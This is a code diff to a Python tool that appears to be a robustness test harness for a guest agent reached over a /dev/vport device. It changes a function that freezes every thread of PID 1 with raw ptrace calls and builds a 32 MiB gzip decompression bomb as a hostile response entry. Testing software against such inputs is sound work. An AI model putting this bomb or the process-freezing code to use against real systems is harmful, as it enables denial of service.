@@ -267,10 +267,17 @@ def syscall(number, *args):
 
 def stop_agent():
     """For as long as the calling thread is there."""
-    for thread in map(int, os.listdir("/proc/1/task")):
-        for request in (0x4206, 0x4207):  # PTRACE_SEIZE, PTRACE_INTERRUPT
-            syscall(101, request, thread, 0, 0)
-        os.waitpid(thread, 0x40000000)  # __WALL
+    seen = set()
+    while new := set(map(int, os.listdir("/proc/1/task"))) - seen:
+        for thread in new:
+            try:
+                for request in (0x4206, 0x4207):  # PTRACE_SEIZE, PTRACE_INTERRUPT
+                    syscall(101, request, thread, 0, 0)
+                os.waitpid(thread, 0x40000000)  # __WALL
+            except (ProcessLookupError, ChildProcessError):
+                # It has ended meanwhile.
+                pass
+        seen |= new
 
 
 def of_agent(wanted):
@@ -330,7 +337,7 @@ class Agent:
         self.keys, self.armed, self.api, self.reply = keys, [], None, None
         self.tls = context(keys, "own")
         self.port = next(of_agent(lambda link: link.startswith("/dev/vport")))
-        bomb = zlib.compressobj(9, wbits=31)
+        bomb = zlib.compressobj(1, wbits=31)
         bomb = b"".join(bomb.compress(bytes(1 << 20)) for _ in range(32)) + bomb.flush()
         ROWS["a gzip bomb"] = (go_on, whole(bomb, b"content-encoding: gzip\r\n"))
 
